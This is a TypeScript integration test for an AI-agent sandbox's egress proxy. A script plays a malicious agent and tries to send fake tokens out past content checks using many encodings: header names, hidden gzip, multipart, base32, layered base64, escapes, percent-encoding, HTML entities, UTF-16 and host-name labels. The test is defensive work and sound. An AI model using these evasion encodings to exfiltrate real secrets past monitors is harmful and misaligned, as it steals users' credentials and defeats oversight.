/**
 * Issue 13's channels, tried from inside a real bottle as a malicious agent would: the bottle's
 * own (fake) token and a provider-shaped one, sent to an allowed host through the egress proxy in
 * the encodings and places that once went out (a header name, gzip without Content-Encoding, gzip
 * inside multipart, base32, base64 three times and wrapped, `\x` and `\u` escapes, percent-encoding
 * four times, HTML entities, UTF-16, short labels of a host name under an allowed wildcard). Each
 * must be refused by the content checks (403, `dlp:` rule) while a plain request to the same host
 * passes; afterwards no audit file of the bottle holds the token in any of its encodings.
 */
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import type { Sandbox } from "../helpers/cli.js";
import { cliProcess } from "../helpers/cli.js";
import {
  bottleExec,
  dockerSandbox,
  shellManifest,
  startDetached,
  startUpstream,
} from "../helpers/docker.js";

// Built from pieces so no detector trips on this file.
const OWN = ["fake", "exfil", "token", "Q2w9Er7Ty5Ui3Op1As"].join("-");
const GITHUB = ["ghp", "_", "Zx8Cv6Bn4Mq2Wd0Rf7Tg5Yh3Uj1Ik9Ol8Pa"].join("");

/** Runs inside the bottle: each attack through 127.0.0.1:3128, one JSON line of results. */
const ATTACKS = String.raw`
const http = require("http"), zlib = require("zlib");
const [own, gh] = JSON.parse(process.argv[2]);
const b32 = (buf) => { const A = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"; let bits = 0, v = 0, out = "";
  for (const byte of buf) { v = (v << 8) | byte; bits += 8; while (bits >= 5) { out += A[(v >>> (bits - 5)) & 31]; bits -= 5; } }
  if (bits > 0) out += A[(v << (5 - bits)) & 31]; return out; };
const b64 = (s) => Buffer.from(s).toString("base64");
const send = (name, { host = "allowed.test", path = "/in", method = "POST", headers = {}, body }) =>
  new Promise((resolve) => {
    const req = http.request({ host: "127.0.0.1", port: 3128, method, path: "http://" + host + path,
      headers: { host, ...headers } }, (res) => { res.resume();
        res.on("end", () => resolve([name, res.statusCode, String(res.headers["x-bot-bottle-denied"] ?? "")])); });
    req.on("error", (e) => resolve([name, 0, e.message]));
    if (body !== undefined) req.write(body);
    req.end();
  });
const boundary = "b0undary";
const multipart = Buffer.concat([Buffer.from("--" + boundary + "\r\ncontent-disposition: form-data; name=f; filename=a.bin\r\ncontent-type: application/octet-stream\r\n\r\n"),
  zlib.gzipSync("key=" + own), Buffer.from("\r\n--" + boundary + "--\r\n")]);
const labels = b32(Buffer.from(own)).toLowerCase().match(/.{1,15}/g).join(".");
(async () => {
  const results = [];
  results.push(await send("plain", { method: "GET", path: "/hello" }));
  for (const secret of [own, gh]) {
    const tag = secret === own ? "own" : "github";
    const hex = Buffer.from(secret).toString("hex");
    results.push(await send(tag + ":header-name", { method: "GET", headers: { ["x-" + secret]: "1" } }));
    results.push(await send(tag + ":header-name-hex", { method: "GET", headers: { ["x-" + hex]: "1" } }));
    results.push(await send(tag + ":gzip-no-encoding", { body: zlib.gzipSync("note " + secret) }));
    results.push(await send(tag + ":gzip-identity", { headers: { "content-encoding": "identity" }, body: zlib.gzipSync(secret) }));
    results.push(await send(tag + ":multipart-gzip", { headers: { "content-type": "multipart/form-data; boundary=" + boundary }, body: multipart }));
    results.push(await send(tag + ":base32", { body: "v=" + b32(Buffer.from(secret)) }));
    results.push(await send(tag + ":base64x3", { body: b64(b64(b64(secret))) }));
    results.push(await send(tag + ":base64-wrapped", { body: b64(secret).match(/.{1,4}/g).join("\n") }));
    results.push(await send(tag + ":x-escapes", { body: [...Buffer.from(secret)].map((c) => "\\x" + c.toString(16).padStart(2, "0")).join("") }));
    results.push(await send(tag + ":u-escapes", { body: "s = '" + [...secret].map((c) => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")).join("") + "'" }));
    let pct = secret; for (let i = 0; i < 4; i++) pct = [...Buffer.from(pct)].map((c) => "%" + c.toString(16).padStart(2, "0")).join("");
    results.push(await send(tag + ":percent-x4", { method: "GET", path: "/q?d=" + pct }));
    results.push(await send(tag + ":html-entities", { body: [...secret].map((c) => "&#" + c.charCodeAt(0) + ";").join("") }));
    results.push(await send(tag + ":utf16", { body: Buffer.from(secret, "utf16le") }));
  }
  results.push(await send("own:host-labels", { method: "GET", host: labels + ".allowed.test", path: "/" }));
  console.log(JSON.stringify(results));
})();
`;

describe("exfiltration channels, from inside a bottle", () => {
  let box: Sandbox;
  let identity: string;
  let upstream: Awaited<ReturnType<typeof startUpstream>>;

  before(async () => {
    box = dockerSandbox(
      `${shellManifest({ runtime: "runc" })}    credentials:\n      - {name: api, path: /api, upstream: "https://api.fake.test", token: {env: BB_EXFIL_TOKEN}}\n`,
    );
    box.env["BB_EXFIL_TOKEN"] = OWN;
    identity = await startDetached(box);
    upstream = await startUpstream(`bot-bottle-${identity}-net`, ["allowed.test"]);
  });

  after(async () => {
    await upstream.remove();
    await cliProcess(["stop", identity], box);
  });

  it("refuses every encoding and place of a secret, and lets the plain request through", async () => {
    const script = Buffer.from(ATTACKS).toString("base64");
    const result = await bottleExec(
      box,
      identity,
      `echo ${script} | base64 -d > /tmp/attacks.js && node /tmp/attacks.js '${JSON.stringify([OWN, GITHUB])}'`,
    );
    assert.equal(result.code, 0, result.stderr);
    const results = JSON.parse(result.stdout.trim()) as [string, number, string][];
    const [plain, ...attacks] = results;
    assert.equal(plain?.[1], 200, `the plain request passes: ${JSON.stringify(plain)}`);
    assert.equal(attacks.length, 27);
    const passed = attacks.filter(([, status, rule]) => status !== 403 || !rule.startsWith("dlp"));
    assert.deepEqual(passed, [], "every attack is refused by the content checks");
  });

  it("writes no form of the secrets to any audit file", () => {
    const auditDir = path.join(box.env["BOT_BOTTLE_HOME"] ?? "", "state", identity, "audit");
    const text = fs
      .readdirSync(auditDir)
      .map((f) => fs.readFileSync(path.join(auditDir, f), "utf8"))
      .join("\n");
    assert.ok(text.includes("allowed.test"), "the audit holds the attempts");
    for (const secret of [OWN, GITHUB]) {
      const forms = [
        secret,
        secret.toLowerCase(),
        Buffer.from(secret).toString("hex"),
        Buffer.from(secret).toString("base64").slice(0, 16),
        encodeURIComponent(secret),
      ];
      for (const form of forms) assert.ok(!text.includes(form), `an audit file holds ${form}`);
    }
  });
});
